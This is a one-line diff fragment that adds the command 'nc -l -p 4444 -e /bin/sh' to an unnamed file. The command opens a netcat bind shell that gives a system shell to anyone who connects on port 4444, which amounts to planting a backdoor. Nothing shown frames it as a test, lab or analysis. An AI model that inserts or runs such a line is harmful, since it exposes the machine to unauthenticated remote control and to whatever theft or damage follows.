@@ -1,0 +1,1 @@
+nc -l -p 4444 -e /bin/sh
